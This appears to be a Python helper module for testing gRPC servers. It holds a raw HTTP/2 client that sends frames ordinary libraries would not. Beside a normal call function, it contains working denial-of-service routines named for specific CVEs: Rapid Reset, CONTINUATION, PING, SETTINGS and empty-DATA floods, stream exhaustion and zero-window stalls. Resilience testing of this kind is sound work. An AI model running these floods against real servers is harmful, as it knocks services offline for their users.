"""A client of a few lines of HTTP/2 (RFC 9113), to send what no gRPC library would."""

import contextlib
import socket
import struct
import time
from dataclasses import dataclass

import hpack

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_CONTINUATION = 9
_END_STREAM, _ACK, _END_HEADERS = 0x1, 0x1, 0x4


@dataclass(frozen=True, slots=True)
class Answer:
    """What came back on the stream before it ended, and after how many seconds."""

    headers: dict[bytes, bytes]
    data: bytes
    ended: bool
    """Whether it ended in good order and was not reset."""
    seconds: float

    @property
    def status(self) -> int | None:
        """The `grpc-status`; None if the stream was reset."""
        value = self.headers.get(b"grpc-status")
        return None if value is None else int(value)


def call(
    address: str,
    path: bytes,
    message: bytes = b"",
    *,
    headers: tuple[tuple[bytes, bytes], ...] = (),
    patience: float = 10.0,
) -> Answer:
    """Make one unary call on a connection of its own."""
    started = time.monotonic()
    with _connect(address, patience) as connection:
        connection.sendall(
            _PREFACE
            + _frame(_SETTINGS, 0, 0, b"")
            + _frame(_HEADERS, _END_HEADERS, 1, _block(address, path, headers))
            + _frame(_DATA, _END_STREAM, 1, b"\0" + struct.pack(">I", len(message)) + message)
        )
        return _read(connection, started, patience)


def reset_rapidly(address: str, path: bytes, *, times: int) -> int:
    """Begin calls and cancel each at once (CVE-2023-44487); give how many could be sent."""
    block = _block(address, path, ())
    with _connect(address, 10.0) as connection:
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        for sent in range(times):
            stream = 2 * sent + 1
            try:
                connection.sendall(
                    _frame(_HEADERS, _END_HEADERS, stream, block)
                    + _frame(_DATA, _END_STREAM, stream, bytes(5))
                    + _frame(_RST_STREAM, 0, stream, (8).to_bytes(4))
                )
            except OSError:  # the server has had enough
                return sent
    return times


def flood(address: str, path: bytes, *, times: int) -> None:
    """Send what costs a client nothing, on a connection for each sort, until it has enough."""
    begun = _frame(_HEADERS, 0, 1, _block(address, path, ()))
    open_call = _frame(_HEADERS, _END_HEADERS, 1, _block(address, path, ()))
    large = _frame(_CONTINUATION, 0, 1, _literal(b"x-large", b"a" * 8000))
    for first, repeated in (
        (begun, _frame(_CONTINUATION, 0, 1, b"")),  # CVE-2024-27316 and its like
        (begun, large),
        (b"", _frame(_PING, 0, 0, bytes(8))),  # CVE-2019-9512
        (b"", _frame(_SETTINGS, 0, 0, b"")),  # CVE-2019-9515
        (open_call, _frame(_DATA, 0, 1, b"")),  # CVE-2019-9518
        (b"", bytes(range(256))),
    ):
        with _connect(address, 1.0) as connection, contextlib.suppress(OSError):
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + first + repeated * times)


def begin(address: str, path: bytes, *, times: int) -> socket.socket:
    """Begin calls and send no message; they are open as long as the connection."""
    connection = _connect(address, 10.0)
    block = _block(address, path, ())
    streams = (_frame(_HEADERS, _END_HEADERS, 2 * number + 1, block) for number in range(times))
    with contextlib.suppress(OSError):  # it may have had enough
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + b"".join(streams))
    return connection


def open_without_room(address: str, path: bytes, *, times: int) -> socket.socket:
    """Begin calls with empty messages, and let not one byte of an answer be sent."""
    connection = _connect(address, 10.0)
    block = _block(address, path, ())
    no_window = struct.pack(">HI", 4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, no_window))
    for stream in range(1, 2 * times, 2):
        connection.sendall(
            _frame(_HEADERS, _END_HEADERS, stream, block)
            + _frame(_DATA, _END_STREAM, stream, bytes(5))
        )
    return connection


def count_ends(connection: socket.socket, *, wanted: int) -> int:
    """Read until so many calls were ended or reset; give how many were."""
    ended: set[int] = set()
    received = b""
    while len(ended) < wanted:
        try:
            chunk = connection.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        received += chunk
        while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3]):
            length = int.from_bytes(received[:3])
            kind, flags, stream = received[3], received[4], int.from_bytes(received[5:9])
            if kind == _SETTINGS and not flags & _ACK:
                _acknowledge(connection, _SETTINGS, b"")
            if kind == _PING and not flags & _ACK:
                _acknowledge(connection, _PING, received[9 : 9 + length])
            if kind == _RST_STREAM or (kind == _HEADERS and flags & _END_STREAM):
                ended.add(stream)
            received = received[9 + length :]
    return len(ended)


def _connect(address: str, patience: float) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=patience)


def _block(address: str, path: bytes, headers: tuple[tuple[bytes, bytes], ...]) -> bytes:
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", address.encode()),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
    return b"".join(_literal(name, value) for name, value in (*fields, *headers))


def _read(connection: socket.socket, started: float, patience: float) -> Answer:
    headers: dict[bytes, bytes] = {}
    received, data, decoder = b"", b"", hpack.Decoder()
    while time.monotonic() < started + patience:
        try:
            chunk = connection.recv(65536)
        except OSError:
            break
        if not chunk:
            break
        received += chunk
        while len(received) >= 9:
            length = int.from_bytes(received[:3])
            if len(received) < 9 + length:
                break
            kind, flags = received[3], received[4]
            stream, payload = int.from_bytes(received[5:9]), received[9 : 9 + length]
            received = received[9 + length :]
            if kind == _SETTINGS and not flags & _ACK:
                _acknowledge(connection, _SETTINGS, b"")
            if kind == _PING and not flags & _ACK:
                _acknowledge(connection, _PING, payload)
            if stream != 1:
                continue
            headers.update(decoder.decode(payload, raw=True) if kind == _HEADERS else ())
            data += payload if kind == _DATA else b""
            is_reset = kind not in {_DATA, _HEADERS, _WINDOW_UPDATE}
            if is_reset or (kind in {_DATA, _HEADERS} and flags & _END_STREAM):
                return Answer(headers, data, not is_reset, time.monotonic() - started)
    return Answer(headers, data, False, time.monotonic() - started)


def _acknowledge(connection: socket.socket, kind: int, payload: bytes) -> None:
    with contextlib.suppress(OSError):  # it may be closed already
        connection.sendall(_frame(kind, _ACK, 0, payload))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing and without Huffman code (RFC 7541, 6.2.2)."""
    return b"\0" + _length(len(name)) + name + _length(len(value)) + value


def _length(number: int) -> bytes:
    if number < 127:
        return bytes([number])
    encoded, number = bytes([127]), number - 127
    while number >= 128:
        encoded, number = encoded + bytes([number % 128 + 128]), number // 128
    return encoded + bytes([number])
